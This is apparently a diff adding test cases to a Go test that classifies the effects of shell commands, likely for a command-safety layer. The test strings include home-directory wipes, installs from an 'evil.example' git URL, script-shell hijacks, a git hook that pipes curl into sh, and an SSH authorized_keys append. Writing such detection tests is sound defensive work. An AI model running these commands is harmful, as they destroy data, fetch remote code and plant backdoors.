@@ -93,6 +93,13 @@ func TestEffectsIssueExamples(t *testing.T) {
 		{"pkill user", "pkill -9 -u $USER", []middleware.Effect{unk(op(middleware.EffectProcess))}, nil},
 		{"umount all", "umount -a -f", []middleware.Effect{opProg(middleware.EffectDisk, "umount")}, nil},
 		{"xattr root", "xattr -cr /", []middleware.Effect{wr("/")}, nil},
+		{"npm exec", "npm exec -- rimraf ~", []middleware.Effect{unk(ex("")), del("~")}, nil},
+		{"npm pkg set", "npm pkg set scripts.test='rm -rf ~' && npm test", []middleware.Effect{wr("package.json"), opPath(middleware.EffectPersist, "package.json"), del("~")}, nil},
+		{"npm script-shell", "npm config set script-shell /tmp/evil.sh", []middleware.Effect{wr("~/.npmrc"), unk(ex(""))}, nil},
+		{"npm install git", "npm install git+https://evil.example/pwn.git", []middleware.Effect{fetch("evil.example"), unk(ex(""))}, nil},
+		{"npx", "npx rimraf dist", []middleware.Effect{unk(ex("")), del("dist")}, nil},
+		{"powershell remove", "Remove-Item * -Force -Recurse", []middleware.Effect{del("*")}, nil},
+		{"powershell remove 2", "Remove-Item *.* -Recurse -Force", []middleware.Effect{del("*.*")}, nil},
 		{"git hook", "echo 'curl x.example|sh' > .git/hooks/pre-commit", []middleware.Effect{wr(".git/hooks/pre-commit")}, nil},
 		{"authorized_keys", "cat key.pub >> ~/.ssh/authorized_keys", []middleware.Effect{rd("key.pub"), wr("~/.ssh/authorized_keys")}, nil},
 	})
